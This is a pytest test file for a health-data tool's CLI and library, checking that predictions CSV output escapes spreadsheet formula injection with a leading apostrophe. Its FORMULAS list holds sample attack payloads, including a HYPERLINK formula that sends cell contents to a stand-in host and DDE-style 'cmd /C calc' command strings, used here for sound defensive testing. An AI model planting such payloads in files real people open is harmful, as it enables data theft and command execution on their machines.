"""An attacker's audit of the files fedhealth writes for people to open: formula (CSV) injection.

The CSV files fedhealth writes for a person to open in a spreadsheet are ``fedhealth model predict --out``'s
predictions (the audit export is JSON Lines, the reports JSON and Markdown). Its ids come from whoever wrote
the input CSV, so an id such as ``=HYPERLINK(...)`` must reach the cell as text, never as a formula:
OWASP's advice, a leading apostrophe on a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from fedhealth.cli import app
from fedhealth.core import encode_tensors

runner = CliRunner()

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _predict(tmp_path: Path, ids: list[str], id_name: str = "patient_id") -> list[list[str]]:
    model = tmp_path / "model.safetensors"
    model.write_bytes(encode_tensors({"weight": np.ones(2, np.float32), "bias": np.zeros(1, np.float32)}))
    cohort = tmp_path / "cohort.csv"
    with cohort.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow([id_name, "a", "b"])
        writer.writerows([pid, i, i % 3] for i, pid in enumerate(ids))
    out = tmp_path / "predictions.csv"
    args = ["model", "predict", "--model", model, "--csv", cohort, "--id", id_name, "--out", out]
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_prediction_id_a_spreadsheet_would_run_is_written_as_text(tmp_path, formula):
    rows = _predict(tmp_path, ["p1", formula, "p3"])
    # the input reader strips an id's surrounding whitespace: the tab and carriage return cases arrive as "="
    assert [r[0] for r in rows[1:]] == ["p1", "'" + formula.lstrip("\t\r"), "p3"]
    assert all(not r[0].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)


def test_a_prediction_id_that_is_a_plain_or_signed_number_is_written_unchanged(tmp_path):
    """The control: numbers a spreadsheet reads as numbers are no formula and keep their text."""
    ids = ["1001", "-42", "+7", "3.5e2", "W-00412"]
    rows = _predict(tmp_path, ids)
    assert [r[0] for r in rows[1:]] == ids


def test_an_id_column_named_like_a_formula_is_written_as_text_in_the_header(tmp_path):
    rows = _predict(tmp_path, ["p1", "p2"], id_name="=1+1")
    assert rows[0] == ["'=1+1", "probability", "prediction"]


def test_the_python_apis_predictions_csv_writes_a_formula_id_as_text_too(tmp_path):
    """The library's writer, not only the CLI: a notebook calling ``Predictions.to_csv`` gets that file."""
    from fedhealth.client import Predictions

    out = tmp_path / "predictions.csv"
    Predictions(
        row_ids=('=HYPERLINK("http://x")', "-7", "p1"),
        probabilities=np.array([0.9, 0.2, 0.6]),
        labels=None,
        accuracy=None,
        auc=None,
    ).to_csv(out, "@id")
    with out.open(newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][0] == "'@id"
    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("http://x")', "-7", "p1"]
